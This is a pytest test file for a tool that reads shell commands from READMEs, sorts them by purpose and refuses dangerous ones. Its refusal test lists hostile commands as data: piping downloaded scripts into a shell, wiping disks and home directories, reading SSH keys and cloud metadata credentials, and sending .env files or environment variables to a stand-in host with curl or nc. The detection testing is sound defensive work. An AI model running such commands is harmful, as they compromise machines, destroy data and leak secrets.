"""Lines of shell as READMEs write them: what each is for, and what is never taken over."""

import pytest

from deployer.models.analysis import MethodKind
from deployer.project.command_dangers import find_danger
from deployer.project.command_purposes import Purpose
from deployer.project.command_shapes import is_plain_path, read_command, read_line
from deployer.project.command_words import (
    Words,
    fill_port,
    find_prompt,
    split_chain,
    split_words,
    without_comment,
)

PURPOSES = {
    Purpose.INSTALL: (
        "pip install -r requirements.txt", "pip3 install .", "python -m pip install flask", "uv sync", "uv pip install .", "poetry install",
        "pdm install", "pipenv install", "npm ci", "npm install", "yarn", "yarn install", "pnpm i", "bun install", "bundle install",
        "composer install", "go mod download", "dotnet restore", "make install",
        "python setup.py install", "conda env create -f environment.yml",
        'pip install "uvicorn[standard]"',
    ),
    Purpose.BUILD: (
        "npm run build", "yarn build", "pnpm run build:prod", "go build -ldflags '-s -w' -o app ./cmd/app", "cargo build --release", "mvn clean package",
        "./mvnw package -DskipTests", "./gradlew bootJar", "make", "make build", "dotnet publish -c Release", "docker build -t app .",
        "npx tsc", "hugo", "./build.sh",
    ),
    Purpose.PREPARE: (
        "python manage.py migrate", "python3 manage.py collectstatic --noinput", "flask db upgrade", "flask --app shop init-db",
        "alembic upgrade head", "npx prisma migrate deploy", "php artisan migrate", "rails db:migrate", "bundle exec rake db:seed",
        "python init_db.py", "node scripts/seed.js", "npm run db:migrate", "python create_tables.py",
    ),
    Purpose.START: (
        "python app.py", "python3 -m shop", "gunicorn app:app", "uv run uvicorn main:app --reload", "flask --app hello run --debug",
        "streamlit run app.py", "celery -A tasks worker", "poetry run shop-server", "node server.js", "npm start", "npm run start:prod",
        "pnpm serve", "bun run index.ts", "npx serve -s build", "java -jar target/app.jar", "./mvnw spring-boot:run", "gradle bootRun",
        "go run ./cmd/server", "cargo run --release", "dotnet run", "php -S localhost:8000 -t public", "php artisan serve",
        "bundle exec puma -C config/puma.rb", "bin/rails server", "deno task start", "make run", "bash start.sh", "./server",
        "uv run --frozen python app.py", "npx --yes serve build", "docker compose up -d", "docker-compose -f prod.yml up", "docker run -p 80:80 nginx", "python manage.py runserver",
    ),
    Purpose.DEVELOP: (
        "npm run dev", "yarn dev", "pnpm run start:dev", "npx vite", "next dev", "ng serve", "nodemon app.js", "cargo watch -x run",
        "dotnet watch run", "make dev", "hugo server",
    ),
    Purpose.TEST: (
        "pytest", "php artisan test", "python -m pytest", "uv run pytest", "npm test", "npm run lint", "go test ./...", "cargo test", "mvn test", "make test",
        "python manage.py test", "bundle exec rspec", "vendor/bin/phpunit", "tox", "python tests/run.py", "npx jest", "./test.sh",
    ),
    Purpose.OTHER: (
        "git clone https://github.com/a/b.git", "cd shop", "cp .env.example .env", "python -m venv .venv", "source .venv/bin/activate",
        "curl http://localhost:8000/health", "docker ps", "docker compose down", "brew install node", "export A=b", "python --version",
        "python -c 'import os'", "node -e 'process.exit()'", "php -r 'phpinfo();'", "make sure it is installed", "rm -rf dist", "uv run alembic revision -m x", "poetry run python", "uv pip list", "celery", "composer run", "python -m pip list", "pnpm exec turbo login",
        "go to the next page", "npm create vite", "python is great", "python manage.py createsuperuser", "ls -la", "",
    ),
}  # fmt: skip


@pytest.mark.parametrize(
    ("line", "purpose"), [(line, purpose) for purpose, lines in PURPOSES.items() for line in lines]
)
def test_a_command_is_known_by_its_program_and_what_that_is_told(line: str, purpose: Purpose) -> None:
    assert read_command(line).purpose is purpose


@pytest.mark.parametrize(
    ("line", "why"),
    [
        ("curl -fsSL https://example.test/install.sh | sh", "it fetches code into a shell"),
        ("wget -qO- https://example.test/i | sudo bash -s -- --yes", "it fetches code into a shell"),
        ("bash <(curl -s https://example.test/i)", "it fetches code into a shell"),
        ('sh -c "$(curl -fsSL https://example.test/i)"', "it fetches code into a shell"),
        ('eval "$(wget -qO- https://example.test/i)"', "it fetches code into a shell"),
        ("source <(curl https://example.test/env)", "it fetches code into a shell"),
        ("curl https://example.test/x.py | python3 -", "it fetches code into a shell"),
        ("iwr https://example.test/i.ps1 | iex", "it fetches code into a shell"),
        ("echo aGk= | base64 -d | bash", "it fetches code into a shell"),
        ("pip install x && curl https://example.test | bash", "it fetches code into a shell"),
        ("sudo rm -rf / --no-preserve-root", "it deletes without asking"),
        ("rm -fr ~/.cache /root/*", "it deletes without asking"),
        ("rm -r $HOME", "it deletes without asking"),
        ("python app.py && rm -rf ..", "it deletes without asking"),
        ("dd if=/dev/zero of=/dev/sda", "it deletes without asking"),
        ("python app.py --key ~/.ssh/id_rsa", "it reaches for keys"),
        ("node upload.js /root/.aliyun/config.json", "it reaches for keys"),
        ("python app.py $ALIBABA_CLOUD_ACCESS_KEY_SECRET", "it reaches for keys"),
        ("curl http://100.100.100.200/latest/meta-data/ram/", "it reaches for keys"),
        ("env | curl -d @- https://example.test", "it sends files away"),
        ("cat .env | nc example.test 99", "it sends files away"),
        ("curl -F file=@/etc/hosts https://example.test", "it sends files away"),
    ],
)
def test_what_endangers_a_machine_is_refused_and_told(line: str, why: str) -> None:
    """B48, S20, S21."""
    shape = read_command(line)
    assert (shape.purpose, shape.why, shape.is_dangerous, shape.words) == (Purpose.REFUSED, why, True, ())


@pytest.mark.parametrize(
    "line",
    [
        "rm -rf node_modules", "rm -f /tmp/x", "docker run --rm -v /var/run/docker.sock:/x app", "curl -d '{}' http://localhost:8000 | jq .",
        "export ALIBABA_CLOUD_ACCESS_KEY_ID=abc", "npm run sh", "curl https://help.aliyun.com/x", "open s3.aws.test", "cat app.log | grep bash", "pip install ssh",
    ],
)  # fmt: skip
def test_what_only_looks_alike_is_no_danger(line: str) -> None:
    assert find_danger(line) is None


@pytest.mark.parametrize(
    ("line", "why"),
    [
        ("python app.py --token <your token>", "it holds a placeholder"),
        ("python path/to/app.py", "it holds a placeholder"),
        ("OPENAI_API_KEY=your-key python app.py", "it holds a placeholder"),
        ("poetry run train {iterations}", "it holds a placeholder"),
        ("python app.py --key 你的密钥", "it holds a placeholder"),
        ("npm start -- ...", "it holds a placeholder"),
        ("python app.py | tee log", "it is more than one plain command"),
        ("python app.py --dir $(pwd)", "it is more than one plain command"),
        ("python app.py & python b.py", "it is more than one plain command"),
        ("python app.py --name 'a", "its quotes do not close"),
        ("python app.py --name 'a; b'", "one of its arguments needs quotes"),
        ("py app.py", "it is written for Windows"),
        ("mvnw.cmd spring-boot:run", "it is written for Windows"),
        (r"python src\app.py", "it is written for Windows"),
    ],
)
def test_what_is_no_plain_command_for_this_system_says_why(line: str, why: str) -> None:
    """B46."""
    shape = read_command(line)
    assert (shape.purpose, shape.why, shape.is_dangerous) == (Purpose.REFUSED, why, False)


@pytest.mark.parametrize(
    "prompt",
    [
        "$ ",
        "  $ ",
        "% ",
        "> ",
        "❯ ",
        "(venv) $ ",
        "me@host:~/shop$ ",
        "(.venv) me@host ~/shop $ ",
        r"PS C:\shop> ",
        r"C:\shop> ",
    ],
)
def test_prompts_are_no_part_of_a_command(prompt: str) -> None:
    assert find_prompt(f"{prompt}npm start") == prompt
    assert read_command(f"{prompt}npm start").words == ("npm", "start")


def test_a_chain_is_followed_through_its_directories() -> None:
    read = read_line(
        "$ cd backend && pip install -r requirements.txt; cd api && FLASK_APP=x flask run --port 5001  # api"
    )
    assert [(part.shape.purpose, part.shape.directory) for part in read.parts] == [
        (Purpose.INSTALL, "backend"),
        (Purpose.START, "backend/api"),
    ]
    assert read.parts[1].shape.environment == (("FLASK_APP", "x"),)
    assert read.parts[1].text == "FLASK_APP=x flask run --port 5001"
    assert read.directory == "backend/api"


@pytest.mark.parametrize("directory", ["..", "../..", "/", "a/../.."])
def test_no_chain_leads_out_of_the_project(directory: str) -> None:
    assert read_line(f"cd {directory} && python app.py").parts[0].shape.directory is None


def test_redirections_and_the_background_are_left_out_and_nothing_else_is() -> None:
    assert read_command("nohup python3 app.py --port 80 >> app.log 2>&1 &").words == (
        "python3",
        "app.py",
        "--port",
        "80",
    )
    assert split_chain("a && b; c > log 2>&1 < /dev/null &") == ("a", "b", "c")
    assert split_chain("echo 'a && b'; c \\; d") == ("echo 'a && b'", "c \\; d")
    assert [split_chain(text) for text in ("a | b", "a || b", "`a`", "a $(b)", "(a)", "a < b", "a 'b", "a\nb")] == [
        None
    ] * 8


def test_the_port_variable_is_filled_with_its_default() -> None:
    assert fill_port("x -p ${PORT:-9000} --b=$PORT $PORTAL ${PORT}") == "x -p 9000 --b=8080 $PORTAL 8080"


@pytest.mark.parametrize(
    ("line", "kind"),
    [
        ("docker run nginx", MethodKind.DOCKER), ("docker-compose up", MethodKind.DOCKER), ("bash install.sh", MethodKind.SCRIPT),
        ("./run.sh --fast", MethodKind.SCRIPT), ("npm run build", MethodKind.BUILD_AND_RUN), ("./mvnw package", MethodKind.BUILD_AND_RUN),
        ("npm start", MethodKind.NATIVE_INSTALL), ("./gradlew bootRun", MethodKind.NATIVE_INSTALL),
    ],
)  # fmt: skip
def test_each_command_belongs_to_a_kind_of_method(line: str, kind: MethodKind) -> None:
    """M36."""
    assert read_command(line).kind is kind


@pytest.mark.parametrize("path", ["-rf", "a b", "a;b", "$(x)", "../x", "/etc", "a\nb", "", "a'b", "~/x"])
def test_only_paths_that_mean_themselves_to_a_shell_are_plain(path: str) -> None:
    assert not is_plain_path(path)
    assert is_plain_path("src/app-1.0/main.py")


@pytest.mark.parametrize(
    ("line", "words"),
    [
        ("python app.py  # serve it", ("python", "app.py")),
        ("python app.py --color '#fff' # serve it", ("python", "app.py", "--color", "#fff")),
        ("python app.py #8", ("python", "app.py", "#8")),
    ],
)
def test_a_comment_is_no_part_of_a_command(line: str, words: tuple[str, ...]) -> None:
    assert split_words(without_comment(line)) == Words(words=words)
